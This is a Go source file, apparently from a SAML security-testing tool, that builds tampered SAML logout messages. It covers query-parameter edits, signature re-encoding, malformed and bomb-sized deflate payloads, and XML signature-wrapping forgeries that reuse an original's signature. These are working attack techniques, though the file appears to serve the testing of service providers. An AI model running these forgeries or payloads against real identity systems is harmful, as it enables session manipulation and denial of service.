package attack

import (
	"bytes"
	"compress/flate"
	"crypto/ecdsa"
	"encoding/asn1"
	"encoding/base64"
	"math/big"
	"net/url"
	"slices"
	"strings"
)

// logoutSteps change logout messages.
var logoutSteps = map[string]step{
	"relay-state": {setup, 1, func(d *draft, a []string) { d.logout.RelayState = a[0] }},
	// The name under which the message is signed, which is also that under which it is sent.
	"parameter": {setup, 1, func(d *draft, a []string) { d.logout.param = a[0] }},
	// By HTTP-Redirect, the signature is not in the query, or not only there.
	"bare":      {setup, 0, func(d *draft, _ []string) { d.logout.bare = true }},
	"enveloped": {setup, 0, func(d *draft, _ []string) { d.logout.enveloped = true }},
	"lower-case-escapes": {setup, 0, func(d *draft, _ []string) {
		d.logout.escape = func(s string) string { return lowerEscapes(escaped(s)) }
	}},
	"query-hmac": {setup, 1, func(d *draft, a []string) { d.logout.hmac = d.publicSecret(a[0]) }},

	// What is sent instead of the deflated document. It is signed.
	"payload": {text, 1, func(d *draft, a []string) { d.logout.payload = payloads[a[0]](d.text) }},

	// A number of copies at the end.
	"copy-last": {before, 2, func(d *draft, a []string) {
		el := d.find(a[0])
		for range number(a[1]) {
			el.Parent().AddChild(el.Copy())
		}
	}},

	// Parameters of the signed query, as octets.
	"query-remove": {posted, 1, func(d *draft, a []string) { d.editQuery(a[0], func(string) []string { return nil }) }},
	"query-set": {posted, 2, func(d *draft, a []string) {
		d.editQuery(a[0], func(string) []string { return []string{a[0] + "=" + a[1]} })
	}},
	"query-rename": {posted, 2, func(d *draft, a []string) {
		d.editQuery(a[0], func(value string) []string { return []string{a[1] + "=" + value} })
	}},
	// Once more behind it, by another name.
	"query-repeat": {posted, 2, func(d *draft, a []string) {
		d.editQuery(a[0], func(value string) []string { return []string{a[0] + "=" + value, a[1] + "=" + value} })
	}},
	"query-add":   {posted, 1, func(d *draft, a []string) { d.text += "&" + a[0] }},
	"query-lower": {posted, 0, func(d *draft, _ []string) { d.text = lowerEscapes(d.text) }},
	// The signature as DER, as Java and OpenSSL make it.
	"query-der": {posted, 0, func(d *draft, _ []string) {
		d.editQuery("Signature", func(value string) []string {
			return []string{"Signature=" + escaped(encode(d.derOf(value)))}
		})
	}},

	// A forged message gets the original's signature, or none. The words are where the Signature goes, and where the
	// original does. The original names another user, and the forged message the one who is signed in.
	"wrap-logout": {after, 2, wrapLogout},
}

func escaped(s string) string { return url.QueryEscape(s) }

// lowerEscapes writes the digits of percent-encodings in lower case, as Entra ID does.
func lowerEscapes(s string) string {
	out := []byte(s)
	for i := 0; i+2 < len(out); i++ {
		if out[i] == '%' {
			copy(out[i+1:], bytes.ToLower(out[i+1:i+3]))
		}
	}
	return string(out)
}

// editQuery replaces a parameter of the query.
func (d *draft) editQuery(name string, edit func(value string) []string) {
	all := strings.Split(d.text, "&")
	at := slices.IndexFunc(all, func(pair string) bool { return strings.HasPrefix(pair, name+"=") })
	if at < 0 {
		d.fail("the query has no %s", name)
		return
	}
	d.text = strings.Join(slices.Replace(all, at, at+1, edit(strings.TrimPrefix(all[at], name+"="))...), "&")
}

// derOf returns an ECDSA value of a query as DER.
func (d *draft) derOf(value string) []byte {
	text, err := url.QueryUnescape(value)
	raw, err2 := base64.StdEncoding.DecodeString(text)
	_, ok := d.key.Public().(*ecdsa.PublicKey)
	if err != nil || err2 != nil || !ok {
		d.fail("an ECDSA key is required")
		return nil
	}
	half := len(raw) / 2
	der, _ := asn1.Marshal(struct{ R, S *big.Int }{new(big.Int).SetBytes(raw[:half]), new(big.Int).SetBytes(raw[half:])})
	return der
}

// payloads are octets of a query's message, made of the document.
var payloads = map[string]func(document string) []byte{
	"bomb":        func(string) []byte { return deflated(make([]byte, 8<<20)) },
	"compressed":  func(s string) []byte { return deflated([]byte(s)) },
	"not-deflate": func(s string) []byte { return []byte(s) },
	"trailing":    func(s string) []byte { return append(stored(s), "junk"...) },
	"zlib":        func(s string) []byte { return append([]byte{0x78, 0x9c}, stored(s)...) },
	"cut":         func(s string) []byte { return stored(s)[:len(s)/2] },
	"empty":       func(string) []byte { return []byte{} },
}

func deflated(text []byte) []byte {
	var out bytes.Buffer
	w, _ := flate.NewWriter(&out, flate.BestCompression) // a valid level
	_, _ = w.Write(text)
	_ = w.Close()
	return out.Bytes()
}

func wrapLogout(d *draft, a []string) {
	original, signature := d.tree.Root(), d.sig.el
	forged := without(original)
	forged.CreateAttr("ID", d.newID())
	forged.SelectElement("NameID").SetText(d.p.Subject)
	if a[0] == "forged" {
		forged.InsertChildAt(1, detach(signature))
	}
	switch a[1] {
	case "object":
		child(signature, "ds:Object").AddChild(original)
	case "signature":
		signature.AddChild(original)
	case "extensions":
		extensions := node("saml2p:Extensions")
		insertBefore(forged.SelectElement("NameID"), extensions)
		extensions.AddChild(original)
	case "name-id":
		forged.SelectElement("NameID").AddChild(original)
	case "end":
		forged.AddChild(original)
	}
	d.tree.SetRoot(forged)
}
